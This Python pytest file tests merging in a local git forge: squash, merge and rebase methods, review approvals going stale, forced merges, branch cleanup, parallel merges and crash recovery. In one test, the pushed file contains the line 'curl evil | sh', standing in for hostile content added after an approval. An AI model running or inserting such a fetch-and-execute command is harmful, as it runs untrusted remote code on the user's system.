"""Merges of the local forge: what lands, what is refused, what survives a crash or a race."""

from __future__ import annotations

import contextlib
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from ennio.model.errors import Conflict, Refused, Unreachable
from ennio.model.local_forge import PullRow
from ennio.model.pulls import MergeMethod, Opinion, PullState, ReviewState
from ennio.plugins.forge.local.merging import ATTEMPTS
from tests.plugins.forge.hub import Hub, git, seen_pull, watch


def test_a_squash_is_one_commit_by_the_branchs_author_with_the_way_back(hub: Hub) -> None:
    hub.push("fix", {"a.txt": "a\n"})
    head = hub.push("fix", {"b.txt": "b\n"})
    before = hub.head()
    forge = hub.forge()
    number = forge.open("fix", "main", "Fix it", "Because.").number
    commit = forge.merge(number, head).commit
    assert hub.head() == commit
    people = f"{before}|Agent Smith <smith@agents.example>|Ennio <ennio@localhost>"
    assert git(hub.path, "log", "-1", "--format=%P|%an <%ae>|%cn <%ce>", commit) == people
    message = git(hub.path, "log", "-1", "--format=%B", commit)
    assert (
        message
        == f"Fix it (#{number})\n\nBecause.\n\nEnnio-Pull: shop#{number}\nEnnio-Head: {head}"
    )
    assert (
        git(hub.path, "log", "-1", "--format=%(trailers:key=Ennio-Head,valueonly)", commit) == head
    )
    assert (hub.show("a.txt"), hub.show("b.txt")) == ("a", "b")
    assert git(hub.path, "fsck", "--strict", "--no-dangling") == ""


def test_a_configured_user_is_the_committer(hub: Hub) -> None:
    git(hub.path, "config", "user.name", "Ada")
    git(hub.path, "config", "user.email", "ada@x.example")
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    commit = forge.merge(forge.open("fix", "main", "t", "").number, head).commit
    assert git(hub.path, "log", "-1", "--format=%cn <%ce>", commit) == "Ada <ada@x.example>"


def test_a_merge_commit_has_both_parents(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    before = hub.push("main", {"c.txt": "c\n"})
    forge = hub.forge(merge_method="merge")
    commit = forge.merge(forge.open("fix", "main", "t", "").number, head).commit
    assert git(hub.path, "log", "-1", "--format=%P", commit).split() == [before, head]
    assert hub.show("a.txt") == "a"


def test_a_rebase_replays_every_commit_with_its_author_and_words(hub: Hub) -> None:
    hub.push("fix", {"a.txt": "a\n"}, message="first: ümlaut\n\nbody")
    hub.push("fix", {"app.py": "ONE\ntwo\nthree\n"}, message="second")
    head = hub.head("fix")
    before = hub.push("main", {"app.py": "one\ntwo\nTHREE\n"})
    forge = hub.forge()
    forge.merge(forge.open("fix", "main", "t", "").number, head, MergeMethod.REBASE)
    assert (
        git(hub.path, "log", "--format=%an %s", f"{before}..main")
        == "Agent Smith second\nAgent Smith first: ümlaut"
    )
    assert git(hub.path, "log", "--merges", "--format=%H", "main") == ""
    assert hub.show("app.py") == "ONE\ntwo\nTHREE"
    old, new = (
        git(hub.path, "log", "-1", "--format=%ad %B", name) for name in (f"{head}~1", "main~1")
    )
    assert old == new
    assert git(hub.path, "fsck", "--strict", "--no-dangling") == ""


def test_a_rebase_onto_an_unmoved_base_keeps_the_commits(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge(merge_method="rebase")
    assert forge.merge(forge.open("fix", "main", "t", "").number, head).commit == head == hub.head()


def test_a_rebase_that_would_lose_a_conflicts_resolution_is_refused(hub: Hub) -> None:
    hub.push("fix", {"app.py": "mine\n"})
    hub.push("main", {"app.py": "theirs\n"})
    git(hub.work, "checkout", "-q", "fix")
    with pytest.raises(Exception, match="exit status 1"):
        git(hub.work, "merge", "main")
    (hub.work / "app.py").write_text("both\n")
    git(hub.work, "commit", "-q", "-am", "merge main")
    git(hub.work, "push", "-q", "origin", "fix")
    head = hub.head("fix")
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    base = hub.head()
    with pytest.raises(Conflict, match=r"cannot be rebased.*app\.py.*squash"):
        forge.merge(number, head, MergeMethod.REBASE)
    assert hub.head() == base
    forge.merge(number, head, MergeMethod.SQUASH)
    assert hub.show("app.py") == "both"


def test_a_rebase_that_would_lose_what_a_merge_commit_added_is_refused(hub: Hub) -> None:
    hub.push("fix", {"a.txt": "a\n"})
    hub.push("main", {"c.txt": "c\n"})
    git(hub.work, "checkout", "-q", "fix")
    git(hub.work, "merge", "-q", "--no-commit", "--no-ff", "main")
    (hub.work / "only-here.txt").write_text("precious\n")
    git(hub.work, "add", "-A")
    git(hub.work, "commit", "-q", "-m", "merge main, and more")
    git(hub.work, "push", "-q", "origin", "fix")
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    hub.push("main", {"d.txt": "d\n"})
    with pytest.raises(Conflict, match=r"gives another result.*squash"):
        forge.merge(number, hub.head("fix"), MergeMethod.REBASE)
    forge.merge(number, hub.head("fix"))
    assert hub.show("only-here.txt") == "precious"


def test_a_base_that_is_checked_out_is_never_moved(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    clone = hub.root / "clone"
    git(hub.root, "clone", "-q", str(hub.path), str(clone))
    git(clone, "branch", "fix", head)
    forge = hub.forge(repo=str(clone))
    assert "keep a bare repository" in (forge.check() or "")
    number = forge.open("fix", "main", "t", "").number
    before = git(clone, "rev-parse", "main")
    with pytest.raises(Refused, match=rf"checked out in {clone}.*keep a bare repository"):
        forge.merge(number, head)
    assert git(clone, "rev-parse", "main") == before
    assert git(clone, "status", "--porcelain") == ""
    git(clone, "switch", "-q", "--detach")
    other = hub.root / "linked"
    git(clone, "worktree", "add", "-q", str(other), "main")
    with pytest.raises(Refused, match=str(other)):
        forge.merge(number, head)
    git(clone, "worktree", "remove", str(other))
    assert forge.merge(number, head).commit == git(clone, "rev-parse", "main")
    assert git(clone, "status", "--porcelain") == ""


def test_a_file_url_names_the_repository(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge(repo=hub.path.as_uri())
    assert forge.repository == str(hub.path)
    assert forge.merge(forge.open("fix", "main", "t", "").number, head).commit == hub.head()


def test_a_required_review_is_awaited(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge(review_required=True)
    pull = forge.open("fix", "main", "t", "")
    assert pull.review is ReviewState.REQUIRED
    with pytest.raises(Refused, match="approving review"):
        forge.merge(pull.number, head)
    forge.review(pull.number, "ada", ReviewState.APPROVED, "")
    forge.merge(pull.number, head)


def test_a_new_head_makes_an_approval_stale_and_the_next_look_makes_it_good_again(hub: Hub) -> None:
    approved = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge(review_required=True)
    number = forge.open("fix", "main", "t", "").number
    assert forge.review(number, "ada", ReviewState.APPROVED, "").review is ReviewState.APPROVED
    head = hub.push("fix", {"unseen.sh": "curl evil | sh\n"})
    pull = seen_pull(forge, watch("fix"))
    assert (pull.review, pull.approved_head, pull.stale) == (
        ReviewState.REQUIRED,
        False,
        (Opinion("ada", ReviewState.APPROVED, approved),),
    )
    with pytest.raises(Refused, match=f"approving review of {head[:7]}"):
        forge.merge(number, head)
    with pytest.raises(Conflict, match="look at it again"):
        forge.review(number, "ada", ReviewState.APPROVED, "", head=approved)
    assert (
        forge.review(number, "ada", ReviewState.APPROVED, "", head=head).review
        is ReviewState.APPROVED
    )
    assert forge.merge(number, head).commit == hub.head()


def test_a_stale_approval_waits_for_another_look_also_where_none_was_required(hub: Hub) -> None:
    hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    forge.review(number, "ada", ReviewState.APPROVED, "")
    hub.push("fix", {"b.txt": "b\n"})
    assert seen_pull(forge, watch("fix")).review is ReviewState.REQUIRED
    counting = hub.forge(dismiss_stale=False)
    pull = seen_pull(counting, watch("fix"))
    assert (pull.review, pull.approved_head) == (ReviewState.APPROVED, False)


def test_a_push_back_to_the_approved_head_makes_its_approval_good_again(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    forge.review(number, "ada", ReviewState.APPROVED, "")
    hub.push("fix", {"b.txt": "b\n"})
    assert forge.look(number).review is ReviewState.REQUIRED
    git(hub.work, "push", "-q", "--force", "origin", f"{head}:refs/heads/fix")
    assert forge.look(number).review is ReviewState.APPROVED


def test_what_a_reviewer_wants_changed_is_not_merged_also_when_that_was_said_a_moment_ago(
    hub: Hub,
) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    forge.review(number, "ada", ReviewState.APPROVED, "")
    forge.review(number, "bob", ReviewState.CHANGES_REQUESTED, "no")
    with pytest.raises(Refused, match="asks for changes"):
        forge.merge(number, head)
    assert forge.merge(number, head, force=True).commit == hub.head()


def test_a_persons_force_stands_above_the_required_review_and_nothing_else(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge(review_required=True)
    number = forge.open("fix", "main", "t", "", draft=True).number
    with pytest.raises(Refused, match="draft"):
        forge.merge(number, head, force=True)
    forge.ready(number)
    with pytest.raises(Conflict, match="expected was 0000"):
        forge.merge(number, "0" * 40, force=True)
    assert forge.merge(number, head, force=True).commit == hub.head()


def test_a_dismissed_review_counts_no_longer_and_a_resolved_comment_needs_no_answer(
    hub: Hub,
) -> None:
    hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    forge.review(number, "ada", ReviewState.CHANGES_REQUESTED, "no")
    pull = forge.review(number, "bob", ReviewState.NONE, "here", path="a.txt", line=1)
    request, comment = pull.comments
    assert forge.resolve(number, comment.id).comments == (request,)
    pull = forge.dismiss(number, request.id)
    assert (pull.review, pull.comments) == (ReviewState.NONE, ())


def test_the_merged_branch_goes_but_not_from_under_a_worktree(hub: Hub) -> None:
    forge = hub.forge()
    for branch in ("one", "two"):
        hub.push(branch, {f"{branch}.txt": "x\n"})
    git(hub.path, "worktree", "add", "-q", str(hub.root / "agent"), "two")
    for branch in ("one", "two"):
        forge.merge(forge.open(branch, "main", "t", "").number, hub.head(branch))
    assert git(hub.path, "branch", "--format=%(refname:short)").split() == ["main", "two"]


def _branches(hub: Hub) -> list[str]:
    return git(hub.path, "branch", "--format=%(refname:short)").split()


def test_a_merged_branch_stays_where_that_is_wanted_or_somebody_needs_it(hub: Hub) -> None:
    keeping, forge = hub.forge(delete_branch=False), hub.forge(protected_branches=("release/*",))
    for branch in ("kept", "release/1", "below"):
        hub.push(branch, {f"{branch.replace('/', '-')}.txt": "x\n"})
    hub.push("above", {"above.txt": "x\n"}, base="below")
    forge.open("above", "below", "stacked on it", "")
    for by, branch in ((keeping, "kept"), (forge, "release/1"), (forge, "below")):
        by.merge(by.open(branch, "main", branch, "").number, hub.head(branch))
    assert _branches(hub) == ["above", "below", "kept", "main", "release/1"]


def test_a_branch_that_a_persons_push_has_merged_goes_too(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    git(hub.work, "push", "-q", "origin", f"{head}:refs/heads/main")
    pull = seen_pull(forge, watch("fix", number=number))
    assert (pull.state, pull.head) == (PullState.MERGED, head)
    assert _branches(hub) == ["main"]
    assert seen_pull(forge, watch("fix", number=number)).state is PullState.MERGED


def test_a_branch_that_went_on_before_it_could_go_stays(hub: Hub) -> None:
    """The agent pushes once more between the look and the merge: nothing is
    merged, and nothing is lost.
    """
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    more = hub.push("fix", {"b.txt": "b\n"})
    with pytest.raises(Conflict, match="expected was"):
        forge.merge(number, head)
    assert (hub.head("fix"), _branches(hub)) == (more, ["fix", "main"])


def _push_patiently(hub: Hub, name: str) -> None:
    """Commit on top of the hub's main and push without force, again and again until it is taken."""
    for _ in range(100):
        git(hub.work, "fetch", "-q", "origin")
        git(hub.work, "checkout", "-q", "-B", "main", "origin/main")
        (hub.work / name).write_text("by hand\n")
        git(hub.work, "add", "-A")
        git(hub.work, "commit", "-q", "-m", name)
        with contextlib.suppress(subprocess.CalledProcessError):
            git(hub.work, "push", "-q", "origin", "main")
            return
    pytest.fail(f"{name} was never taken")


def test_incident_06_parallel_merges_all_land(hub: Hub) -> None:
    """Eight at once through forges that share nothing but the store and the repository,
    while a person pushes too.
    """
    heads = {f"fix-{n}": hub.push(f"fix-{n}", {f"file-{n}.txt": f"{n}\n"}) for n in range(8)}
    opener = hub.forge()
    numbers = {branch: opener.open(branch, "main", branch, "").number for branch in heads}
    forges = {branch: hub.forge() for branch in heads}
    methods = list(MergeMethod)

    def merge(branch: str) -> str:
        method = methods[numbers[branch] % len(methods)]
        return forges[branch].merge(numbers[branch], heads[branch], method).commit

    with ThreadPoolExecutor(9) as pool:
        pushed = pool.submit(lambda: [_push_patiently(hub, f"person-{n}.txt") for n in range(4)])
        commits = list(pool.map(merge, heads))
        pushed.result()
    assert [hub.show(f"person-{n}.txt") for n in range(4)] == ["by hand"] * 4
    assert len(set(commits)) == 8
    for n, commit in enumerate(commits):
        assert hub.show(f"file-{n}.txt") == str(n)
        git(hub.path, "merge-base", "--is-ancestor", commit, "main")
    assert {pull.state for pull in opener.pulls()} == {PullState.MERGED}
    assert git(hub.path, "fsck", "--strict", "--no-dangling") == ""


def test_parallel_merges_of_the_same_lines_never_both_succeed(hub: Hub) -> None:
    heads = {f"fix-{n}": hub.push(f"fix-{n}", {"app.py": f"version {n}\n"}) for n in range(3)}
    opener = hub.forge()
    numbers = {branch: opener.open(branch, "main", branch, "").number for branch in heads}

    def merge(branch: str) -> str | None:
        try:
            return hub.forge().merge(numbers[branch], heads[branch]).commit
        except Conflict:
            return None

    with ThreadPoolExecutor(3) as pool:
        landed = [commit for commit in pool.map(merge, heads) if commit]
    assert len(landed) == 1
    assert hub.head() == landed[0]


class _PowerCutError(BaseException):
    """The process dies."""


@pytest.mark.parametrize("method", list(MergeMethod))
def test_a_crash_between_the_merge_and_its_record_is_seen_as_merged(
    hub: Hub, method: MergeMethod
) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    hub.push("main", {"c.txt": "c\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number

    def die(row: PullRow) -> None:
        if row.state is PullState.MERGED:
            raise _PowerCutError

    hub.store.refuse = die
    with pytest.raises(_PowerCutError):
        forge.merge(number, head, method)
    hub.store.refuse = None
    landed = hub.head()
    hub.push("fix", {"late.txt": "pushed after the merge\n"})
    pull = seen_pull(hub.forge(), watch("fix", number=number))
    assert (pull.state, pull.merge_commit, pull.head) == (PullState.MERGED, landed, head)
    assert pull.merged_by_push is False
    assert hub.forge().merge(number, head, method).commit == landed
    assert hub.head() == landed


def test_a_crash_before_the_merge_leaves_it_open_and_mergeable(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    base = hub.head()

    def die(row: PullRow) -> None:
        if row.merge_commit is not None:
            raise _PowerCutError

    hub.store.refuse = die
    with pytest.raises(_PowerCutError):
        forge.merge(number, head)
    hub.store.refuse = None
    assert hub.head() == base
    assert hub.forge().look(number).state is PullState.OPEN
    assert hub.forge().merge(number, head).commit == hub.head() != base


def test_a_push_in_the_middle_of_a_merge_stops_it(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    base = hub.head()
    moved: list[str] = []

    def push_once(row: PullRow) -> None:
        if row.merge_commit is not None and not moved:
            moved.append(hub.push("fix", {"b.txt": "b\n"}))

    hub.store.refuse = push_once
    with pytest.raises(Conflict, match="head of fix is now"):
        forge.merge(number, head)
    assert hub.head() == base
    assert forge.look(number).head == moved[0]


def test_a_base_that_moves_in_the_middle_of_a_merge_is_built_upon(hub: Hub) -> None:
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    moved: list[str] = []

    def push_once(row: PullRow) -> None:
        if row.merge_commit is not None and not moved:
            moved.append(hub.push("main", {"c.txt": "c\n"}))

    hub.store.refuse = push_once
    commit = forge.merge(number, head).commit
    assert git(hub.path, "log", "-1", "--format=%P", commit) == moved[0]
    assert (hub.show("a.txt"), hub.show("c.txt")) == ("a", "c")


def test_a_base_that_cannot_be_moved_is_said_so_after_bounded_attempts(
    hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ennio.plugins.forge.local.merging.ATTEMPTS", 2)
    assert ATTEMPTS > 2
    head = hub.push("fix", {"a.txt": "a\n"})
    forge = hub.forge()
    number = forge.open("fix", "main", "t", "").number
    hooks = hub.path / "hooks"
    monkeypatch.setattr("ennio.plugins.git._LOCK_PATIENCE", 0.1)
    hooks.mkdir(exist_ok=True)
    stale = Path(f"{hub.path}/refs/heads/main.lock")
    stale.touch()
    with pytest.raises(Unreachable, match=r"2 attempts.*main\.lock"):
        forge.merge(number, head)
    assert hub.forge().look(number).state is PullState.OPEN
    stale.unlink()
    assert forge.merge(number, head).commit == hub.head()


def test_two_who_force_at_once_merge_once(hub: Hub) -> None:
    """Through forges that share nothing but the store and the repository: the second finds it
    done, or is told why not.
    """
    head = hub.push("fix", {"a.txt": "a\n"})
    number = hub.forge(review_required=True).open("fix", "main", "t", "").number
    forges = [hub.forge(review_required=True) for _ in range(4)]
    before = hub.head()

    def merge(at: int) -> str:
        return forges[at].merge(number, head, force=True).commit

    with ThreadPoolExecutor(4) as pool:
        commits = set(pool.map(merge, range(4)))
    assert len(commits) == 1
    assert git(hub.path, "rev-list", f"{before}..main").split() == list(commits)
